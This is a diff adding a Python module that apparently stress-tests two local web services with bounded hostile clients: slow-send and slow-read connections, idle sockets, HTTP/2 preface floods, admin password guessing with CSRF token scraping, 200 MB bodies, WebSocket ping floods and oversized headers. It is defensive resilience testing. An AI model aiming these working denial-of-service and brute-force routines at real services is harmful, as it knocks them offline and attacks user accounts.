@@ -1,0 +1,189 @@
+"""What hostile clients do to the two web services, each in a process of its own and on this machine alone.
+
+Every attack is bounded: by the connections that it opens, the bytes that it sends, and the seconds that it may take.
+"""
+
+import asyncio
+import re
+import socket
+import time
+from collections.abc import Awaitable, Callable, Sequence
+from contextlib import suppress
+from dataclasses import dataclass
+from http.cookies import SimpleCookie
+
+from ops.entrypoint.services import allow_open_files
+
+#: Clients of an attack, at both web services together, unless the attack says otherwise.
+CLIENTS = 500
+_IDLE = 3_000
+_PREFACES = 200
+_LOGINS = 200
+_LOGINS_AT_ONCE = 50
+_BODIES = 8
+_BODY = 200 * 1024 * 1024
+_PINGERS = 20
+_PINGS = 8 * 1024 * 1024  # bytes of each client
+_BOMBS = 200
+_BOMB = 256 * 1024
+_CHUNK = 64 * 1024
+
+
+@dataclass(frozen=True)
+class Victim:
+    """One web service, and a page of it."""
+
+    host: str
+    port: int
+    page: str
+    #: A static file, large as such files go.
+    file: str
+    #: The path of a WebSocket; empty where there is none.
+    socket: str = ""
+
+
+Attack = Callable[[Victim, int, float], Awaitable[None]]
+
+
+def run(name: str, victims: Sequence[Victim], seconds: float) -> None:
+    """Attack all of the victims at once, and give up after so many seconds."""
+    allow_open_files()
+    asyncio.run(_run(name, victims, seconds))
+
+
+async def _run(name: str, victims: Sequence[Victim], seconds: float) -> None:
+    attack, clients = ATTACKS[name]
+    end = time.monotonic() + seconds
+    share = clients // len(victims)
+    attackers = [_one(attack, victim, number, end) for victim in victims for number in range(share)]
+    await asyncio.gather(*attackers)
+
+
+async def _one(attack: Attack, victim: Victim, number: int, end: float) -> None:
+    # Whatever the service does with such a client, it may.
+    with suppress(OSError, TimeoutError, EOFError):
+        async with asyncio.timeout_at(asyncio.get_running_loop().time() + end - time.monotonic()):
+            await attack(victim, number, end)
+
+
+async def _connect(victim: Victim, *, small: bool = False) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+    """Open a connection; one that takes in little has `small` buffers."""
+    client = socket.socket()
+    client.setblocking(False)  # noqa: FBT003
+    if small:
+        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
+    await asyncio.get_running_loop().sock_connect(client, (victim.host, victim.port))
+    return await asyncio.open_connection(sock=client, limit=2048 if small else 2**16)
+
+
+def _head(victim: Victim, method: str, path: str, *headers: str) -> bytes:
+    lines = [f"{method} {path} HTTP/1.1", f"Host: {victim.host}:{victim.port}", *headers]
+    return ("\r\n".join(lines) + "\r\n\r\n").encode()
+
+
+async def _send_slowly(victim: Victim, _number: int, _end: float) -> None:
+    """Send the body of a vote a byte a second."""
+    _reader, writer = await _connect(victim)
+    form = "Content-Type: application/x-www-form-urlencoded"
+    writer.write(_head(victim, "POST", victim.page, form, f"Cookie: csrftoken={'a' * 32}", "Content-Length: 100"))
+    while True:
+        writer.write(b"a")
+        await writer.drain()
+        await asyncio.sleep(1)
+
+
+async def _read_slowly(victim: Victim, number: int, _end: float) -> None:
+    """Ask for a file or a page again and again, and read nothing."""
+    _reader, writer = await _connect(victim, small=True)
+    writer.write(_head(victim, "GET", victim.file if number % 2 else victim.page) * 20)
+    await asyncio.sleep(3600)
+
+
+async def _be_idle(victim: Victim, number: int, _end: float) -> None:
+    """Say nothing, or half of a head."""
+    _reader, writer = await _connect(victim)
+    if number % 2:
+        writer.write(b"GET / HTTP/1.1\r\nHost: ")
+    await asyncio.sleep(3600)
+
+
+async def _speak_http2(victim: Victim, _number: int, end: float) -> None:
+    """Open an HTTP/2 connection without TLS, with headers whose bodies never come."""
+    headers = b"\x83\x86\x84\x01\x09localhost"  # HPACK (RFC 7541): POST, http, /, :authority
+    frame = len(headers).to_bytes(3, "big") + b"\x01\x04"
+    opened = b"".join(frame + (2 * stream + 1).to_bytes(4, "big") + headers for stream in range(17))
+    while time.monotonic() < end:
+        reader, writer = await _connect(victim)
+        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04" + bytes(5) + opened)
+        await reader.read(1024)
+        writer.close()
+
+
+async def _sign_in(victim: Victim, number: int, _end: float) -> None:
+    """Guess passwords, some at a time: each guess costs the service a third of a second."""
+    for _ in range(_LOGINS // _LOGINS_AT_ONCE):
+        reader, writer = await _connect(victim)
+        writer.write(_head(victim, "GET", "/accounts/login/", "Connection: close"))
+        page = (await reader.read()).decode(errors="replace")
+        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)
+        cookie = SimpleCookie("; ".join(re.findall(r"(?im)^set-cookie: (.*?)\r?$", page)))
+        if token is None or "csrftoken" not in cookie:
+            return  # it has refused even the page
+        body = f"csrfmiddlewaretoken={token[1]}&username=admin&password=guess-{number}"
+        form = "Content-Type: application/x-www-form-urlencoded"
+        sent = (form, f"Cookie: csrftoken={cookie['csrftoken'].value}", f"Content-Length: {len(body)}")
+        reader, writer = await _connect(victim)
+        writer.write(_head(victim, "POST", "/accounts/login/", *sent, "Connection: close") + body.encode())
+        await reader.read()
+
+
+async def _send_much(victim: Victim, number: int, _end: float) -> None:
+    """Send a body of 200 MB, with its size or without."""
+    chunked = bool(number % 2)
+    _reader, writer = await _connect(victim)
+    size = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {_BODY}"
+    writer.write(_head(victim, "POST", "/accounts/login/", "Content-Type: multipart/form-data; boundary=x", size))
+    chunk = bytes(_CHUNK)
+    if chunked:
+        chunk = f"{_CHUNK:x}\r\n".encode() + chunk + b"\r\n"
+    for _ in range(_BODY // _CHUNK):
+        writer.write(chunk)
+        await writer.drain()
+
+
+async def _ping(victim: Victim, _number: int, _end: float) -> None:
+    """Ping a screen's socket, and never read the answers."""
+    if not victim.socket:
+        return
+    reader, writer = await _connect(victim, small=True)
+    upgrade = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13")
+    key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
+    writer.write(_head(victim, "GET", victim.socket, *upgrade, key))
+    await reader.readuntil(b"\r\n\r\n")
+    pings = (b"\x89\xfd" + bytes(4) + bytes(125)) * 500  # RFC 6455, section 5.5.2: masked, 125 bytes
+    for _ in range(_PINGS // len(pings)):
+        writer.write(pings)
+        await writer.drain()
+    await asyncio.sleep(3600)
+
+
+async def _send_a_large_head(victim: Victim, _number: int, end: float) -> None:
+    """Send 256 KiB of headers."""
+    while time.monotonic() < end:
+        reader, writer = await _connect(victim)
+        writer.write(_head(victim, "GET", victim.page, "Accept: " + "a" * _BOMB))
+        await reader.read(1024)
+        writer.close()
+
+
+#: By their names in the timeline: what one client does, and how many clients there are.
+ATTACKS: dict[str, tuple[Attack, int]] = {
+    f"{CLIENTS} clients send slowly": (_send_slowly, CLIENTS),
+    f"{CLIENTS} clients read nothing": (_read_slowly, CLIENTS),
+    f"{_IDLE:,} connections are idle": (_be_idle, _IDLE),
+    f"{_PREFACES} clients speak HTTP/2": (_speak_http2, _PREFACES),
+    f"{_LOGINS} passwords are guessed": (_sign_in, _LOGINS_AT_ONCE),
+    "bodies of 200 MB": (_send_much, _BODIES),
+    f"{_PINGERS} clients flood with pings": (_ping, _PINGERS),
+    f"{_BOMBS} clients send large heads": (_send_a_large_head, _BOMBS),
+}
